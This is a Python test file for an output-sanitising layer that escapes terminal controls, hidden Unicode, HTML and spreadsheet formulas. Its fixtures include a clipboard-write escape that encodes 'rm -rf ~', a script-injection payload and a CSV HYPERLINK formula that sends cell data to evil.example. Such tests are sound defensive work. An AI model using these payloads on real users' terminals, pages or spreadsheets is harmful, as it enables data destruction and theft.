"""No stored or typed value reaches a terminal raw: every class of character a terminal acts
on, or that hides or reorders text, is shown as a visible escape, in every output format."""

from __future__ import annotations

import csv
import html
import io

import orjson
import pytest

from deskpulse.core.output import printable, render, table
from deskpulse.ops.report import ReportData, render_html, render_text
from tests.helpers.terminal import RAW

#: one example per class, with how it must look in a table
HOSTILE = {
    "CSI colour": ("\x1b[31m", "\\x1b[31m"),
    "OSC 52 clipboard write": ("\x1b]52;c;ZXZpbA==\x07", "\\x1b]52;c;ZXZpbA==\\x07"),
    "BEL": ("\x07", "\\x07"),
    "backspace": ("\x08", "\\x08"),
    "carriage return": ("\r", "\\r"),
    "NUL": ("\x00", "\\x00"),
    "DEL": ("\x7f", "\\x7f"),
    "C1 CSI": ("\x9b2J", "\\x9b2J"),
    "C1 NEL": ("\x85", "\\x85"),
    "C1 OSC/ST": ("\x9d0;x\x9c", "\\x9d0;x\\x9c"),
    "bidi override RLO": ("\u202e", "\\u202e"),
    "bidi embedding LRE": ("\u202a", "\\u202a"),
    "bidi isolate RLI..PDI": ("\u2067x\u2069", "\\u2067x\\u2069"),
    "zero-width space": ("\u200b", "\\u200b"),
    "line separator": ("\u2028", "\\u2028"),
    "tag character": ("\U000e0041", "\\U000e0041"),
    "lone surrogate": ("\udcff", "\\udcff"),
    "tab": ("\t", "\\t"),
    "newline": ("\n", "\\n"),
}
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_every_class_is_shown_as_an_escape_in_a_table(name):
    raw, shown = HOSTILE[name]
    title = f"before{raw}after"
    out = render(["title"], [[title]], "table")
    assert f"before{shown}after" in out
    assert not RAW.search(out.replace("\n", "")), repr(out)
    assert printable(title) == f"before{shown}after"


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_json_stays_valid_with_the_same_value_and_nothing_raw(name):
    raw, _ = HOSTILE[name]
    title = f"before{raw}after"
    out = render(["title", "n"], [[title, 1]], "json")
    assert not RAW.search(out.replace("\n", "")), repr(out)
    # a lone surrogate cannot be written in UTF-8: it becomes the replacement character
    want = title.replace("\udcff", "\ufffd")
    assert orjson.loads(out) == [{"title": want, "n": 1}]


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_csv_keeps_tabs_and_newlines_quoted_and_escapes_the_rest(name):
    raw, shown = HOSTILE[name]
    title = f"before{raw}after"
    out = render(["title"], [[title]], "csv")
    (back,) = list(csv.reader(io.StringIO(out)))[1:]
    if raw in ("\t", "\n"):
        assert back == [title], "CSV quoting carries tabs and newlines"
    else:
        assert back == [f"before{shown}after"]
        assert not RAW.search(out.replace("\n", "").replace("\t", "")), repr(out)


def test_ordinary_text_is_untouched():
    text = "Grüße — 東京 · naïve café ✓ 👩‍💻 C:\\Users\\bob <b>&amp;"
    assert printable(text) == text
    assert orjson.loads(render(["t"], [[text]], "json")) == [{"t": text}]
    assert text in render(["t"], [[text]], "table")


def test_values_that_are_not_strings():
    out = render(["n", "f", "none", "arr", "b"], [[3, 1.5, None, ["x\x1by"], b"\x1b"]], "table")
    assert "\x1b" not in out and "\\x1b" in out
    assert "1.5" in out and "3" in out
    assert table([["a\x1b"]], headers=["h\x07"]).count("\\x") == 2


def test_a_header_is_made_printable_too():
    for fmt in ("table", "csv", "json"):
        assert "\x1b" not in render(["evil\x1b[2J"], [[1]], fmt)


def hostile_report() -> ReportData:
    name = "mallory\x1b]52;c;cm0gLXJmIH4=\x07\u202e<!--<script>"
    app = "app\x9b2J</script><script>alert(1)</script>"
    return ReportData(
        tenant="acme", days=7, first="2026-01-05 09:00:00", last="2026-01-05 17:00:00",
        people=[[name, 1.0, 0.5, 66.7, app]], productivity=[[name, 1.0, 0.0, 0.0, 100.0]],
        categories=[["development", "productive", 1.0, 1]], daily=[["2026-01-05", name, 1.0, 0.5]],
        by_hour=[[9, 1.0]], apps=[[app, 1.0, 1]], domains=[["evil.example\u2066", 0.5, 1]],
        deadletters=[["bad_format\x1b[1m", 3]])


def test_terminal_report_prints_no_raw_controls():
    out = render_text(hostile_report())
    assert not RAW.search(out.replace("\n", "")), repr(out)
    assert "mallory\\x1b]52;c;cm0gLXJmIH4=\\x07\\u202e" in out
    assert "app\\x9b2J" in out and "bad_format\\x1b[1m" in out


def test_html_report_escapes_markup_and_controls_and_has_no_script():
    page = render_html(hostile_report())
    assert not RAW.search(page.replace("\n", "")), "no raw controls or bidi overrides"
    assert "<script" not in page and "&lt;/script&gt;&lt;script&gt;alert(1)" in page
    assert "<!--" not in page, "no comment can swallow the rest of the page"
    assert f'data-label="{html.escape(printable(hostile_report().people[0][0]))}"' in page


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_csv_defuses_texts_a_spreadsheet_would_run_and_keeps_numbers(start):
    text = f'{start}HYPERLINK("https://evil.example/?"&A1,"open")'
    out = render(["title", "n", "x"], [[text, -3, -1.5]], "csv")
    [header, (title, n, x)] = list(csv.reader(io.StringIO(out)))
    assert header == ["title", "n", "x"] and (n, x) == ("-3", "-1.5")
    assert title.startswith("'") and not title.startswith("'" + "'")
    assert title[1:] == printable(text, keep_lines=True)
    assert orjson.loads(render(["title"], [[text]], "json")) == [{"title": text}]


def test_csv_a_leading_carriage_return_is_shown_escaped_which_no_spreadsheet_runs():
    out = render(["title"], [["\r=cmd"]], "csv")
    assert list(csv.reader(io.StringIO(out)))[1] == ["\\r=cmd"]


def test_csv_leaves_other_text_and_headers_alone_but_defuses_a_formula_header():
    out = render(["=cmd", "ok"], [["a = b", "x-y"]], "csv")
    assert list(csv.reader(io.StringIO(out))) == [["'=cmd", "ok"], ["a = b", "x-y"]]
